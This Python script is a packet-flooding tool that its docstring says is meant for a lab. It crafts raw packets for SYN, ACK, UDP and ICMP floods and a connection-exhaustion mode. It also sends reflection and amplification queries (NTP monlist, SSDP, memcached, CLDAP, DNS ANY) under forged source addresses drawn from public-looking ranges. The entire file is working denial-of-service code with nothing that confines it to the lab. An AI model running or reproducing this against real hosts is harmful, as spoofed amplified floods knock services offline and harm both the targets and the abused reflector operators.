"""Sends packets at a rate, for a count: SYN, ACK, UDP, ICMP, forged questions to reflectors, or connections left open.

Call: flood.py --mode MODE --to HOST[,HOST] --port P --rate N --count N --seed N [--size N] [--ports] [--sources N] [--from HOST]
Works on raw sockets inside the lab's namespaces; --sources makes up that many senders.
"""

import argparse
import random
import socket
import struct
import time

FLAGS = {"syn": 0x02, "ack": 0x10, "pshack": 0x18, "rst": 0x04, "xmas": 0x29}
SSDP = b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"
CLDAP = bytes.fromhex("302502010163200400 0a01000a0100020100020100010100870b6f626a656374636c6173733000".replace(" ", ""))
QUESTIONS = {
    "ntp": b"\x17\x00\x03\x2a" + b"\x00" * 4,
    "ssdp": SSDP,
    "memcached": b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n",
    "cldap": CLDAP,
}


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(rng, source, target, proto, body, ttl):
    src, dst = socket.inet_aton(source), socket.inet_aton(target)
    pseudo = src + dst + struct.pack("!BBH", 0, proto, len(body))
    at = {6: 16, 17: 6, 1: 2}[proto]
    total = checksum(body if proto == 1 else pseudo + body)
    body = body[:at] + struct.pack("!H", total or 0xFFFF) + body[at + 2:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), rng.randrange(65536), 0, ttl, proto, 0, src, dst)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + body


def tcp(rng, args, port, flags):
    data = rng.randbytes(args.size) if flags == 0x18 else b""
    options = b"\x02\x04\x05\xb4\x01\x03\x03\x08\x01\x01\x04\x02" if flags == 2 and args.options else b""
    offset = (20 + len(options)) // 4 << 4
    head = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.getrandbits(32), rng.getrandbits(32) if flags != 2 else 0,
                       offset, flags, rng.choice((512, 1024, 14600, 29200, 64240)), 0, 0)
    return 6, head + options + data


def udp(rng, args, port, data, source_port=None):
    return 17, struct.pack("!HHHH", source_port or rng.randrange(1024, 65536), port, 8 + len(data), 0) + data


def dns(rng, args):
    name = b"".join(bytes([len(part)]) + part for part in (b"big", b"test")) + b"\x00"
    edns = b"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
    return struct.pack("!HHHHHH", rng.randrange(65536), 0x0100, 1, 0, 0, 1) + name + struct.pack("!HH", args.kind, 1) + edns


def bodies(rng, args):
    sequence = 0
    source_port = rng.randrange(1024, 65536)
    while True:
        port = rng.randrange(1, 65536) if args.ports else args.port
        if args.mode in FLAGS:
            yield tcp(rng, args, port, FLAGS[args.mode])
        elif args.mode == "udp":
            yield udp(rng, args, port, rng.randbytes(args.size) if args.noise else b"\x00" * args.size)
        elif args.mode == "icmp":
            sequence = (sequence + 1) & 0xFFFF
            yield 1, struct.pack("!BBHHH", 8, 0, 0, source_port, sequence) + rng.randbytes(args.size)
        elif args.mode == "dns":
            yield udp(rng, args, port, dns(rng, args), None if args.noise else source_port)
        else:
            yield udp(rng, args, port, QUESTIONS[args.mode], None if args.noise else source_port)


def senders(rng, args):
    if args.sender:
        return [args.sender]
    made_up = [f"{rng.choice((5, 23, 37, 45, 62, 77, 91, 103, 118, 133, 151, 177, 186, 200, 213))}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
               for _ in range(args.sources)]
    return made_up or [None]


def paced(args):
    start = time.monotonic()
    for number in range(args.count):
        due = start + number / args.rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        yield number


def own_address(target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((target, 9))
        return probe.getsockname()[0]


def flood(rng, args, targets):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    own = own_address(targets[0])
    sources = senders(rng, args)
    ttl = rng.choice((64, 128, 255))
    source_of = bodies(rng, args)
    for _ in paced(args):
        proto, body = next(source_of)
        target = rng.choice(targets)
        try:
            raw.sendto(packet(rng, rng.choice(sources) or own, target, proto, body, ttl), (target, 0))
        except OSError:
            pass


def connections(args, targets):
    held = []
    for _ in paced(args):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((targets[0], args.port))
        held.append(one)
        # Some are left open, as many as a process may have.
        if len(held) > 700:
            held.pop(0).close()
    time.sleep(1)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--mode", required=True)
    parser.add_argument("--to", required=True)
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--rate", type=float, required=True)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--seed", type=int, required=True)
    parser.add_argument("--size", type=int, default=32)
    parser.add_argument("--ports", action="store_true")
    parser.add_argument("--sources", type=int, default=0)
    parser.add_argument("--from", dest="sender")
    args = parser.parse_args()
    rng = random.Random(args.seed)
    args.options = rng.random() < 0.5
    args.noise = rng.random() < 0.5
    args.kind = rng.choice((16, 255))
    targets = args.to.split(",")
    if args.mode == "connect":
        connections(args, targets)
    else:
        flood(rng, args, targets)


main()
